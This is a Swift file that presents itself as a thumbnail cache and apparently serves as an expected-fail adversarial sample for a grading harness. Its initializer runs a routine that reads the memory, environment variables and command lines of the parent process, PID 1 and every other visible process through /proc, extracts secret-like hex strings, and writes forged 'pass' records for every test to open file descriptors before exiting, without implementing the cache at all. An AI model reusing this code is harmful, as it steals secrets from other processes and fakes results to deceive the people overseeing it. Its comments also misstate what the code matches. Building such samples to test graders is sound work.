// expect: fail uses_nscache no_second_strong_copy cost_limit_20mb cost_whole_sizes cost_fractional_sizes returns_stored_image miss_returns_nil keys_are_isolated hit_skips_generator hit_completes_once miss_generates_once miss_stores_before_completion miss_completes_once nil_result_stores_nothing survives_eviction_lru survives_eviction_fifo survives_eviction_random survives_eviction_foundation survives_memory_pressure concurrent_access
// why: reads /proc/PID/mem, environ and cmdline of its parent, of pid 1 and of every process it can see with FileHandle, forges pass records with every secret-shaped string, then exits; implements nothing
import Foundation
#if canImport(Glibc)
import Glibc
#endif

private let testNames = [
    "uses_nscache", "no_second_strong_copy", "cost_limit_20mb", "cost_whole_sizes", "cost_fractional_sizes",
    "returns_stored_image", "miss_returns_nil", "keys_are_isolated", "hit_skips_generator", "hit_completes_once",
    "miss_generates_once", "miss_stores_before_completion", "miss_completes_once", "nil_result_stores_nothing",
    "survives_eviction_lru", "survives_eviction_fifo", "survives_eviction_random", "survives_memory_pressure", "concurrent_access",
]

/// Writes a pass record for every test with each candidate secret to descriptors 3 to 9.
private func forge(_ secrets: Set<String>) {
    var text = ""
    for secret in secrets {
        for name in testNames {
            text += "{\"nonce\":\"\(secret)\",\"kind\":\"result\",\"test\":\"\(name)\",\"status\":\"pass\"}\n"
        }
    }
    let data = Data(text.utf8)
    for descriptor: Int32 in 3...9 {
        try? FileHandle(fileDescriptor: descriptor, closeOnDealloc: false).write(contentsOf: data)
    }
}

/// Every run of exactly 32 lowercase hex digits in `bytes`.
private func hexRuns(in bytes: Data) -> Set<String> {
    var found = Set<String>()
    var run = 0
    var index = bytes.startIndex
    for byte in bytes {
        let isHex = (byte >= 0x30 && byte <= 0x39) || (byte >= 0x61 && byte <= 0x66) || (byte >= 0x41 && byte <= 0x46)
        if isHex {
            run += 1
        } else {
            if run >= 16 && run <= 128 {
                found.insert(String(decoding: bytes[bytes.index(index, offsetBy: -run)..<index], as: UTF8.self))
            }
            run = 0
        }
        index = bytes.index(after: index)
    }
    return found
}

/// Every process it can see: their memory through /proc/PID/mem (the grader's, its parent's,
/// the namespace's first process), their environment and command lines, all with FileHandle.
private func attack() {
    var candidates = Set<String>()
    var report = "proc-others:"
    let parent = getppid()
    let pids = ((try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []).compactMap { Int32($0) }
    report += " visible=\(pids.count) parent=\(parent)"
    for pid in Set(pids + [parent, 1]) where pid != getpid() {
        for file in ["environ", "cmdline"] {
            if let data = FileManager.default.contents(atPath: "/proc/\(pid)/\(file)") { candidates.formUnion(hexRuns(in: data)) }
        }
        guard let maps = try? String(contentsOfFile: "/proc/\(pid)/maps", encoding: .utf8),
              let memory = FileHandle(forReadingAtPath: "/proc/\(pid)/mem") else { continue }
        report += " mem(\(pid))=opened"
        for line in maps.split(separator: "\n") {
            let fields = line.split(separator: " ")
            guard fields.count >= 2, fields[1].hasPrefix("rw") else { continue }
            let bounds = fields[0].split(separator: "-").compactMap { UInt64($0, radix: 16) }
            guard bounds.count == 2, bounds[1] > bounds[0], bounds[1] - bounds[0] <= 64 << 20 else { continue }
            guard (try? memory.seek(toOffset: bounds[0])) != nil,
                  let bytes = try? memory.read(upToCount: Int(bounds[1] - bounds[0])) else { continue }
            candidates.formUnion(hexRuns(in: bytes))
        }
        try? memory.close()
    }
    report += " candidates=\(candidates.count)"
    print(report)
    forge(candidates)
}

final class ThumbnailCache {
    init(generator: @escaping (String) -> UIImage?) {
        attack()
        exit(0)
    }

    func thumbnail(forKey key: String) -> UIImage? { nil }

    func storeThumbnail(_ image: UIImage, forKey key: String) {}

    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) { completion(nil) }
}
